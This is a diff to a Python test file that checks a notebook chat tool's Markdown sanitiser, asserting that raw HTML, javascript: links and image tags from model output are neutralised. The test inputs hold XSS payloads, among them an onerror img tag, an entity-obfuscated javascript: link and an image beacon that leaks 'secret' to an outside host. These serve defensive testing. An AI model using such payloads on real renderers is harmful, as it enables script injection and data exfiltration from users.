@@ -6,6 +6,7 @@ from __future__ import annotations
 import random
 
 import pytest
+from markdown_it import MarkdownIt
 
 from jupyter_stream._magic import interpolate, transform_chat_cell
 from jupyter_stream._render import (
@@ -74,20 +75,25 @@ def test_raw_html_from_the_model_is_text_not_markup() -> None:
     assert "<script" not in html and "<img" not in html
     assert "&lt;script&gt;" in html
     assert 'href="javascript' not in render_markdown("[click](javascript:alert(1))")
+    assert "<img" not in render_markdown("![beacon](https://elsewhere.example/?q=secret)")
 
 
 def test_the_markdown_kept_in_the_notebook_cannot_carry_html() -> None:
     source = (
-        "Hi <img src=x onerror=alert(1)> and `a <b> span`\n\n"
+        "Hi <img src=x onerror=alert(1)> and see \\`<b>\\` here\n\n"
         "```html\n<div>code</div>\n```\n\n"
-        "[x](javascript:alert(1)) ``<i>`` <"
+        "Use `x\n\n<img src=y onerror=alert(2)>\n\nand ` here\n\n"
+        "[x](javascript:alert(1)) [y](java&#115;cript:alert(3))\n\n[1]: javascript:alert(4)\n"
     )
     safe = safe_markdown_source(source)
-    assert "Hi &lt;img src=x" in safe
-    assert "`a <b> span`" in safe  # code spans are kept as they are
-    assert "```html\n<div>code</div>\n```" in safe  # and code blocks
-    assert "``<i>``" in safe
-    assert "](unsafe-javascript:" in safe
+    assert "```html\n<div>code</div>\n```" in safe  # code blocks are kept exactly
+    # Rendered by a Markdown renderer that does pass raw HTML, nothing live comes out.
+    rendered = MarkdownIt("commonmark", {"html": True}).render(safe)
+    assert "<img" not in rendered and "<b>" not in rendered
+    assert 'href="javascript' not in rendered and "java&#115;" not in rendered.replace(
+        "java&amp;#115;", ""
+    )
+    assert "unsafe-javascript:alert(4)" in safe and "](unsafe-javascript:" in safe
     assert safe_markdown_source("plain text") == "plain text"
 
 
